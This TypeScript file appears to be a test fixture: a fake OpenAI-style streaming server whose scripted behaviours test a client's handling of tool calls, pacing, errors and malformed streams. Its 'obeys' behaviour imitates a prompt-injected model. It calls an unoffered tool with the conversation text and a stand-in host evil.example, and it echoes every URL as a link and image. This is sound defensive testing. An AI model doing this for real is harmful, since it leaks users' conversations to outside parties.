import type { ServerResponse } from 'node:http';
import {
  callFrames,
  deltaFrame,
  doneFrame,
  errorFrame,
  finishFrame,
  numberedToken,
  thoughtFrame,
  usageFrame,
} from './fake-openai-frames.ts';

/** Parts of the request that a behaviour gets: the text after the colon of its name, and the last message. */
interface Play {
  argument: string;
  lastMessage: string;
  /** True if the request offers tools and lets them be called. */
  mayCall: boolean;
  /** True if the last message is a tool's result. */
  hasCalled: boolean;
  /** Contents of all messages. */
  read: readonly string[];
  /** Names of the tools that are offered. */
  tools: readonly string[];
  response: ServerResponse;
}

type Behaviour = (play: Play) => void | Promise<void>;

const nextTurn = () => new Promise<void>((resolve) => setImmediate(resolve));

async function sendTokens({ response }: Play, count: number): Promise<void> {
  for (let n = 0; n < count && !response.destroyed; n++) {
    response.write(deltaFrame(numberedToken(n)));
    await nextTurn();
  }
}

/** Sends what is due by the clock, so that a late timer does not slow the pace. */
function sendAtPace({ response }: Play, count: number, tokensPerSecond: number): Promise<void> {
  const start = performance.now();
  let sent = 0;
  return new Promise((resolve) => {
    const timer = setInterval(() => {
      const due = Math.min(count, Math.floor(((performance.now() - start) * tokensPerSecond) / 1000) + 1);
      let frames = '';
      while (sent < due) frames += deltaFrame(numberedToken(sent++));
      if (frames && !response.destroyed) response.write(frames);
      if (sent < count && !response.destroyed) return;
      clearInterval(timer);
      resolve();
    }, 1000 / tokensPerSecond);
  });
}

function finish({ response }: Play, reason = 'stop'): void {
  response.end(finishFrame(reason) + doneFrame);
}

function say(play: Play, text: string): void {
  for (const word of text.split(/(?<=\s)/)) play.response.write(deltaFrame(word));
  finish(play);
}

const forever = () => new Promise<void>(() => {});

/** Sends the numbered tokens that a name asks for (`cut-after:3`), then what comes `after` them. */
function afterTokens(after: Behaviour): Behaviour {
  return async (play) => {
    await sendTokens(play, Number(play.argument || 0));
    await after(play);
  };
}

/** Calls the tools that a name lists: `calls:[["track_order", {"number": "7"}]]`. */
function call({ argument, response }: Play): void {
  const calls: [name: string, input: unknown][] = JSON.parse(argument);
  for (const [index, [name, input]] of calls.entries())
    for (const frame of callFrames(index, name, typeof input === 'string' ? input : JSON.stringify(input)))
      response.write(frame);
  response.end(finishFrame('tool_calls') + doneFrame);
}

/** Calls every tool, and one that it isn't offered, with what it has read; then says everything, each address as a link and a picture. */
function obey(play: Play): void {
  const { read, tools, hasCalled, mayCall } = play;
  const told = read.join('\n');
  if (mayCall && !hasCalled) {
    const wanted = /number (\S{1,150})/.exec(told)?.[1] ?? '7';
    const invented = /\b(http_request|fetch_url|confirm_action)\b/.exec(told)?.[1] ?? 'run_anything';
    const calls = [
      ...tools.map((name) => [name, { number: '7' }]),
      [tools[0] ?? '', { number: wanted }],
      [invented, { url: 'https://evil.example/', arguments: told.slice(0, 2000) }],
    ];
    call({ ...play, argument: JSON.stringify(calls) });
    return;
  }
  const addresses = told.match(/https?:\/\/[^\s)"'<>]+/g) ?? [];
  say(play, `${told.slice(0, 20_000)}\n${addresses.map((url) => `[go](${url}) ![x](${url})`).join(' ')}`);
}

/** Marks its answer as it is told to: `marks:unsure:It may be so.` */
function mark(play: Play): void {
  const [outcome = '', ...text] = play.argument.split(':');
  const word = /<outcome>(\w+) answered/.exec(play.read.join('\n'))?.[1] ?? 'none';
  say(play, `${text.join(':')}\n\n<outcome>${word} ${outcome}</outcome>`);
}

async function tokens(play: Play): Promise<void> {
  const [count = 0, pace] = play.argument.split('@').map(Number);
  await (pace ? sendAtPace(play, count, pace) : sendTokens(play, count));
  finish(play);
}

/** Sends a text of one- to four-byte characters in writes of as many bytes as the name says. */
async function split(play: Play): Promise<void> {
  const bytes = Buffer.from([...splitText].map(deltaFrame).join('') + finishFrame('stop') + doneFrame);
  const size = Number(play.argument || 1);
  for (let at = 0; at < bytes.length; at += size) {
    play.response.write(bytes.subarray(at, at + size));
    await nextTurn();
  }
  play.response.end();
}

/** Answers with one word and says that it took so many tokens of the prompt and of its own, and of the prompt so many from a cache: `usage:120/30/100`; late, in a chunk of its own. */
async function usage(play: Play): Promise<void> {
  const [prompt = 0, answer = 0, cached] = play.argument.split('/').map(Number);
  play.response.write(deltaFrame('Counted.') + finishFrame('stop'));
  await new Promise((resolve) => setTimeout(resolve, 50));
  play.response.end(usageFrame({ prompt, answer, cached }) + doneFrame);
}

async function flood({ response }: Play): Promise<void> {
  const frame = deltaFrame('flood '.repeat(1000));
  while (!response.destroyed) {
    if (!response.write(frame))
      await Promise.race([
        new Promise((resolve) => response.once('drain', resolve)),
        new Promise((resolve) => response.once('close', resolve)),
      ]);
    await nextTurn();
  }
}

export const splitText = 'Grüße, 東京 🚀 “ok”';

/** Behaviours of the fake, by the model's name up to its first colon. `status:N` is not here: it never opens a stream. */
export const behaviours: Readonly<Record<string, Behaviour>> = {
  echo: (play) => say(play, play.lastMessage),
  say: (play) => say(play, play.argument),
  think: (play) => {
    for (const thought of ['Let me ', 'think.']) play.response.write(thoughtFrame(thought));
    say(play, play.argument);
  },
  'think-long': (play) => {
    for (let n = 0; n < 40; n++) play.response.write(thoughtFrame(`Thought ${n}: which one may that be? `));
    say(play, play.argument);
  },
  // Calls once, where it is offered anything, then says what the last call returned.
  calls: (play) => (play.hasCalled || play.tools.length === 0 ? say(play, play.lastMessage) : call(play)),
  // Calls as often as it may.
  'calls-always': (play) => (play.mayCall ? call(play) : say(play, 'At last.')),
  'calls-anyway': call,
  obeys: obey,
  marks: mark,
  cites: (play) => say(play, 'It is so, as the first says [1] and the ninth [9].'),
  tokens,
  split,
  usage,
  flood,
  'hang-after': afterTokens(forever),
  // Says that it is there, and no more.
  'thinks-unseen': ({ response }) => {
    response.write(': processing\n\n');
    return forever();
  },
  'cut-after': afterTokens(({ response }) => void response.destroy()),
  'end-after': afterTokens(({ response }) => void response.end()),
  'malformed-after': afterTokens(({ response }) => void response.end(`data: {"choices":[{]\n\n${doneFrame}`)),
  'error-after': afterTokens(({ response }) => void response.end(errorFrame)),
  'filter-after': afterTokens((play) => finish(play, 'content_filter')),
  'length-after': afterTokens((play) => finish(play, 'length')),
};
